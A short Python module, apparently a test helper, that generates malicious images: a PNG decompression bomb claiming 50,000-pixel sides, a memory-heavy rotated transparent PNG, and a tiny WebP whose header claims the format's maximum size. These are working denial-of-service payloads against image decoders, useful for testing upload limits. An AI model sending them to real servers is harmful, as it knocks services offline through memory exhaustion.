"""Images that are meant to take a server down."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def bomb(side: int = 50_000) -> bytes:
    """A PNG of a few kilobytes whose header claims side x side pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side + 1) * 64), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def largest(side: int = 5000) -> bytes:
    """A PNG of 25 megapixels in a few kilobytes: transparent and to be rotated, which takes most memory to decode."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: a quarter turn
    file = io.BytesIO()
    Image.new("RGBA", (side, side), (1, 2, 3, 4)).save(file, "PNG", exif=exif, compress_level=1)
    return file.getvalue()


def wide_webp() -> bytes:
    """A WebP of 50 bytes whose header claims the most pixels the format has a place for."""
    size = 16383 - 1
    data = b"\x2f" + struct.pack("<I", size | size << 14 | 1 << 28) + bytes(20)
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data + b"\x00"
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk
